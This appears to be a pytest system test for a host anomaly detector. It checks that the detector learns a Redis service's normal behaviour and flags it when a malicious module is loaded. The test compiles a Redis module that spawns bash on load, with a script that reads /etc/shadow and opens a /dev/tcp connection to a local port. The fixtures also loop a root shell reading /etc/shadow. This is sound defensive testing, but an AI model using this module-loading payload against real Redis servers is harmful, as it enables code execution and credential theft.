"""The main job, on a live host: a real service is learned, stays quiet, and is caught when it breaks
character, with the right story; and all of it survives a restart."""

import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

from system_harness import free_port, unique

TIMING = [
    "learning.epoch_s=1",
    "learning.min_epochs=60",
    "learning.ready_return_period_s=30",
    "learning.hold_s=5",
    "learning.startup_s=5",
    "anomaly.min_return_period_s=20",
    "storage.checkpoint_s=2",
]
THRESHOLD_S = 20
SERVICE = unique("redis-") + ".service"
UNIT = f"unit:{SERVICE}"

# What an attacker loads into a server that allows modules: runs a program when loaded, and fails.
MODULE = """
#include <stdlib.h>
#include <unistd.h>
#include <sys/wait.h>
int RedisModule_OnLoad(void *ctx, void **argv, int argc)
{
	(void)ctx; (void)argv; (void)argc;
	pid_t child = fork();
	if (child == 0) {
		execl("/bin/bash", "bash", SCRIPT, (char *)0);
		_exit(127);
	}
	return 1;
}
"""


class Redis:
    """redis-server in its unit's cgroup, under varied load."""

    def __init__(self, cgroups, folder):
        self.cgroups, self.folder = cgroups, Path(folder)
        self.port = free_port()
        self.process = None
        self.stop_load = threading.Event()
        self.paused = threading.Event()
        self.thread = None
        self.errors = []

    def start(self):
        (self.folder / "users.acl").touch()
        self.process = self.cgroups.run(
            f"system.slice/{SERVICE}",
            [
                "/usr/bin/redis-server", "--port", str(self.port), "--dir", str(self.folder),
                "--save", "", "--enable-module-command", "local", "--daemonize", "no",
                "--logfile", str(self.folder / "redis.log"), "--aclfile", str(self.folder / "users.acl"),
            ],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL,
        )
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            try:
                socket.create_connection(("127.0.0.1", self.port), 1).close()
                return
            except OSError:
                time.sleep(0.1)
        raise AssertionError("redis-server does not answer")

    def stop(self):
        self.process.terminate()
        self.process.wait(15)

    def command(self, *words):
        text = f"*{len(words)}\r\n" + "".join(f"${len(w)}\r\n{w}\r\n" for w in words)
        with socket.create_connection(("127.0.0.1", self.port), 5) as s:
            s.sendall(text.encode())
            return s.recv(65536)

    def load(self):
        """Writes, reads, snapshots, reloads of the user list, configuration reads."""
        turn = 0
        while not self.stop_load.is_set():
            if self.paused.is_set():
                time.sleep(0.05)
                continue
            turn += 1
            try:
                self.command("SET", f"key{turn % 97}", "x" * (turn % 211))
                self.command("GET", f"key{turn % 89}")
                if turn % 10 == 0:
                    self.command("BGSAVE")
                if turn % 15 == 0:
                    self.command("ACL", "LOAD")
                if turn % 25 == 0:
                    self.command("CONFIG", "GET", "maxmemory")
                if turn % 40 == 0:
                    self.command("INFO")
            except OSError as error:
                if not self.paused.is_set():
                    self.errors.append(error)
            time.sleep(0.1)

    def start_load(self):
        self.thread = threading.Thread(target=self.load, daemon=True)
        self.thread.start()

    def restart(self):
        self.paused.set()
        time.sleep(0.3)
        self.stop()
        self.start()
        self.paused.clear()

    def close(self):
        self.stop_load.set()
        if self.thread:
            self.thread.join(10)
        if self.process and self.process.poll() is None:
            self.stop()


def make_module(folder, target_port, name="m"):
    """A module whose loading runs a shell that reads /etc/shadow and connects somewhere new."""
    script = folder / f"{name}.sh"
    script.write_text(
        f"read line < /etc/shadow\nexec 3<>/dev/tcp/127.0.0.1/{target_port}\necho hello >&3\nsleep 1\n"
    )
    source = folder / f"{name}.c"
    source.write_text(MODULE)
    module = folder / f"{name}.so"
    subprocess.run(
        ["gcc", "-shared", "-fPIC", f'-DSCRIPT="{script}"', "-o", str(module), str(source)], check=True
    )
    return module


class Listener:
    """A port nobody knew."""

    def __enter__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self.accept, daemon=True).start()
        return self

    def accept(self):
        while True:
            try:
                connection, _ = self.socket.accept()
                connection.close()
            except OSError:
                return

    def __exit__(self, *_):
        self.socket.close()


class Host:
    """The rest of a host: cron and a root shell at work, which must not excuse the service."""

    def __init__(self, cgroups):
        self.cron = cgroups.run(
            f"system.slice/{unique('cron-')}.service", ["/usr/sbin/cron", "-f"],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        self.shell = cgroups.run(
            "user.slice/user-0.slice/session-3.scope",
            ["/bin/bash", "-c", "while :; do ls /etc >/dev/null; id >/dev/null; read x < /etc/shadow; sleep 1; done"],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )

    def close(self):
        for process in (self.cron, self.shell):
            process.terminate()
            process.wait(10)


@pytest.fixture
def redis(cgroups, scratch):
    if not Path("/usr/bin/redis-server").exists():
        pytest.skip("redis-server is not installed")
    folder = scratch / "redis"
    folder.mkdir()
    server = Redis(cgroups, folder)
    yield server
    server.close()


@pytest.fixture
def host(cgroups):
    rest = Host(cgroups)
    yield rest
    rest.close()


def above(daemon, since=None):
    path = f"/v1/anomalies?limit=1000&min_return_period_s={THRESHOLD_S}"
    found = [a for a in daemon.items(path) if a["above_threshold"] and a["workload"]["name"] == UNIT]
    return [a for a in found if since is None or a["last_seen"] >= since]


def describe(anomalies):
    return "\n".join(
        f"{a['id']} {a['dimension']} {a['key']} level {a['level']} {a['return_period_s']:.0f} s: {a['reason']}"
        for a in anomalies
    )


def wait_ready(daemon, timeout_s):
    def check():
        found = daemon.workload(UNIT)
        return found if found and found["state"] == "ready" else None

    return daemon.wait_for(f"{UNIT} ready", check, timeout_s, 1)


def find_leaf(daemon, name):
    """The anomaly of that file, wherever it is listed."""
    everything = daemon.items("/v1/anomalies?limit=1000") + daemon.items("/v1/anomalies?limit=1000&below_threshold=1")
    found = [a for a in everything if a["workload"]["name"] == UNIT and a["dimension"] == "file.read" and a["key"][-1] == name]
    assert found, describe(a for a in everything if a["workload"]["name"] == UNIT)
    return found[0]


def check_claims(daemon, anomalies):
    """No claim is longer than the estimator allows for the age of the baseline."""
    for a in anomalies:
        one = daemon.get(f"/v1/anomalies/{a['id']}")
        assert one["return_period_s"] <= 3.2e9
        assert one["return_period_basis_s"] > 0
        # Pooling with the rest of the host may lengthen a claim, never beyond what was observed in all.
        if one["explanation"]["population"]["factor"] <= 1:
            assert one["return_period_s"] <= one["return_period_basis_s"] * 1.01, one["reason"]
        assert one["explanation"]["levels"] and one["explanation"]["formula"]


def misbehave_and_check(daemon, redis, scratch, name):
    with Listener() as listener:
        module = make_module(redis.folder, listener.port, name)
        since = daemon.get("/v1/status")["now"]
        redis.command("MODULE", "LOAD", str(module))

        def check():
            found = above(daemon, since)
            return found if {"exec", "file.read", "net.connect"} <= {a["dimension"] for a in found} else None

        start = time.monotonic()
        try:
            found = daemon.wait_for("anomalies in exec, file.read, net.connect", check, 10, 0.1)
        except AssertionError as error:
            everything = daemon.items("/v1/anomalies?limit=1000&below_threshold=1")
            raise AssertionError(f"{error}\nabove:\n{describe(above(daemon))}\nbelow:\n{describe(everything)}") from None
        took = time.monotonic() - start
    return found, took, listener.port


@pytest.mark.slow
def test_main_job(make_daemon, cgroups, redis, host, scratch):
    daemon = make_daemon(*TIMING)
    daemon.start()
    redis.start()
    redis.start_load()
    ready = wait_ready(daemon, 300)
    assert ready["kind"] == "unit"

    # A minute of the same load, with a restart of the service: nothing to read.
    since = daemon.get("/v1/status")["now"]
    time.sleep(25)
    redis.restart()
    time.sleep(35)
    assert not above(daemon, since), describe(above(daemon, since))
    assert not redis.errors

    found, took, port = misbehave_and_check(daemon, redis, scratch, "one")
    assert took < 2, f"anomalies after {took:.1f} s"
    def counted():
        status = daemon.get("/v1/status")
        return status["anomalies_total"] >= len(found) and status["incidents_total"] >= 1

    daemon.wait_for("totals of what was found", counted, 5, 0.1)
    by_dimension = {}
    for a in found:
        by_dimension.setdefault(a["dimension"], []).append(a)
    run = next(a for a in by_dimension["exec"] if a["key"][1].endswith("/bash"))
    read = next(a for a in by_dimension["file.read"] if a["key"][-1] == "shadow")
    connect = next(a for a in by_dimension["net.connect"] if str(port) in a["key"])
    for a in (run, read, connect):
        assert a["return_period_s"] >= THRESHOLD_S and a["above_threshold"]
        assert a["novel"] and a["level"] >= 0 and a["reason"] and a["occurrences"] >= 1
        assert a["process"]["exe"].endswith("/bash") and "one.sh" in a["process"]["cmdline"]
        assert "redis" in a["process"]["lineage"][0]["exe"], a["process"]["lineage"]
        assert a["data_quality"]["complete"] is True
    assert run["usual"], "what the service usually runs is shown"
    # The module itself was a new name in a folder that the server reads all the time.
    leaf = find_leaf(daemon, "one.so")
    assert leaf["level"] == 3 and leaf["process"]["exe"].endswith(("redis-server", "redis-check-rdb"))
    assert run["return_period_s"] > leaf["return_period_s"], (describe([run]), describe([leaf]))
    check_claims(daemon, found)

    # One incident holds them together with the classic alerts.
    def joined():
        again = {a["id"]: a for a in above(daemon)}
        ids = {again[a["id"]]["incident"] for a in (run, read, connect)}
        return ids if len(ids) == 1 and None not in ids else None

    incident_id = daemon.wait_for("one incident for all three", joined, 5).pop()
    incident = daemon.get(f"/v1/incidents/{incident_id}")
    assert incident["anomalies"] and incident["alerts"], incident
    totals = daemon.get("/v1/status")
    assert totals["anomalies_total"] >= len(found) and totals["incidents_total"] >= 1, totals
    alerts = [a for a in daemon.items("/v1/alerts?limit=1000") if a["incident"] == incident_id]
    rules = {a["rule"] for a in alerts}
    assert any("shell" in r.lower() for r in rules), rules
    assert any("sensitive" in r.lower() for r in rules), rules

    # Stopped and started: still ready, and the same deviation of a new process is flagged again.
    assert daemon.stop() == 0
    daemon.start()
    time.sleep(2)
    assert daemon.workload(UNIT)["state"] == "ready"
    again, _, _ = misbehave_and_check(daemon, redis, scratch, "two")
    assert any("bash" in str(a["key"]) for a in again if a["dimension"] == "exec")
